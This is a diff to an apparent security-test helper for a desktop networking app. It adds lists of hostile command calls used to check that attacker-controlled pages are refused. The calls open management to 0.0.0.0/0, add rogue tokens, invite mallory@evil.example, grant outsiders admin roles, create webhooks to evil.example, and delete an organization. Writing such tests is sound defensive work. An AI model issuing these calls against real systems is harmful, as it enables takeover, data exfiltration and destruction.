@@ -3,6 +3,10 @@ import type { AddressInfo } from 'node:net'
 import fc from 'fast-check'
 import type { Page } from 'playwright-core'
 import type { CommandName } from '../../../contract/commands.ts'
+import { flagNames } from '../../../contract/node.ts'
+import { linkSchemes } from '../../../domain/devices/device-link.ts'
+import { central } from '../account/demo-new-central.ts'
+import { stranger } from './page-script.ts'
 
 export type Call = readonly [name: CommandName, argument: unknown]
 export type Replies = readonly {
@@ -83,4 +87,69 @@ export async function startAttacker(): Promise<Attacker> {
     heard,
     close: () => server.close(),
   }
+}
+
+/** The ids and addresses of things that are there */
+interface Targets {
+  readonly ownActions: readonly string[]
+  readonly way: { readonly node: string; readonly address: string }
+  /** A program that writes down that it was started */
+  readonly witness: string
+  /** The address of a server that an attacker would choose */
+  readonly base: string
+  readonly invitations: readonly string[]
+  readonly networks: readonly string[]
+  readonly sets: readonly string[]
+}
+
+export const allFlags = { allowManaged: true, allowGlobal: true, allowDefault: true, allowDNS: true }
+
+/** Returns calls against this computer and the account of a person. */
+export function ownAttacks(targets: Targets): readonly Call[] {
+  const { ownActions, way, witness, base, invitations, networks, sets } = targets
+  return [
+    ...ownActions.map((id): Call => ['devices.runAction', { ...way, action: id, user: 'ada' }]),
+    ['devices.runAction', { ...way, action: ownActions[0] ?? '', user: null, seen: [witness, '127.0.0.2'] }],
+    ...linkSchemes.map((scheme): Call => ['devices.open', { ...way, scheme, user: null, port: 4444 }]),
+    ['account.signIn', { token: 'x'.repeat(40), base }],
+    ['preferences.set', { accountBase: base, startAtLogin: true }],
+    ['preferences.set', { answerChecks: true }],
+    ['account.addToken', { name: 'evil', token: 'y'.repeat(40) }],
+    ['account.addToken', { name: 'evil', token: null }],
+    ['account.invite', { email: 'mallory@evil.example' }],
+    ...invitations.map((id): Call => ['account.acceptInvitation', { id }]),
+    [
+      'service.changeSettings',
+      { changes: [{ key: 'allowManagementFrom', before: null, after: ['0.0.0.0/0'] }], agreed: true },
+    ],
+    ['service.writeLocalConf', { before: null, after: '{}' }],
+    ['network.join', { id: stranger, flags: allFlags }],
+    ['network.openLogin', { id: networks[0] }],
+    ...networks.flatMap((id) =>
+      flagNames.map((flag): Call => ['network.setFlag', { id, flag, value: true }]),
+    ),
+    ...sets.map((id): Call => ['sets.use', { id }]),
+  ]
+}
+
+/** Returns calls that would let others into the organization of New Central for good, or delete it. */
+export function centralAttacks(account: string): readonly Call[] {
+  const { lantern, events, guests } = central
+  const organization = { account, organization: lantern }
+  const place = { level: 'network', id: guests }
+  const grants = [{ principal: 'harbour@example.org', roles: ['NetworkAdmin'] }]
+  const before = [{ principal: 'omar@example.com', roles: ['NetworkAdmin'] }]
+  const key = { account, serviceAccount: 'desktop', expires: 4_102_444_800_000, description: '' }
+  const url = 'https://evil.example/hook'
+  return [
+    ['access.add', { account, place, grants }],
+    ['access.replace', { account, place, grants, before, confirm: 'guests' }],
+    ['access.invite', { ...organization, emails: ['mallory@evil.example'] }],
+    ['keys.create', key],
+    ['keys.rotate', { ...key, key: 'desktop' }],
+    ['webhooks.create', { ...organization, url, events: ['MEMBER_JOIN'], description: '' }],
+    ['webhooks.save', { account, id: 'x', url }],
+    ['organization.delete', { ...organization, confirm: 'Lantern Works' }],
+    ['groups.delete', { account, group: events, confirm: 'Events' }],
+  ]
 }
